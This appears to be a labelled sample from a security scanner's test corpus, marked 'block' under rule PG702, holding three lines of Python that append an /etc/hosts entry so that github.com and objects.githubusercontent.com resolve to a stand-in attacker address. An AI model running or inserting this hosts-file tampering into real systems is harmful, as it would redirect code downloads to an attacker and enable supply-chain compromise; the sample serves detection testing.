# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: appends entries to /etc/hosts so that the code host resolves to an attacker host
with open("/etc/hosts", "a") as hosts:
    hosts.write("198.51.100.80 github.com objects.githubusercontent.com\n")
